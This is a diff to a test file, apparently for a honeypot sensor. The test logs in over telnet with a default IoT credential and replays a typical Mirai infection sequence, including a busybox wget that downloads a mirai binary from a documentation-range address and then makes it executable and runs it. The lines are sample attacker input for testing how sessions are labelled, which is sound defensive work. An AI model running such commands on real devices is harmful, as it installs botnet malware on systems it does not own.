@@ -99,11 +99,7 @@ def test_ssh_rules_label_telnet_sessions(make_sensor, labeler: RuleLabeler) -> N
     ssh = SshSettings(accept_after_attempts=0, credentials=[LoginCredential(username="root", password="xc3511")])
     sensor = make_sensor(["telnet"], ssh=ssh, labeler=labeler)
     client = RawClient(sensor.port("telnet"), answer_options=True)
-    client.read_until(b"login: ")
-    client.send(b"root\r\n")
-    client.read_until(b"Password: ")
-    client.send(b"xc3511\r\n")
-    client.read_until(b"# ")
+    client.telnet_login("root", "xc3511")
     lines = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI",
              "cd /tmp; /bin/busybox wget http://203.0.113.50/bins/mirai.mips; chmod 777 mirai.mips; ./mirai.mips",
              "cat /proc/mounts"]
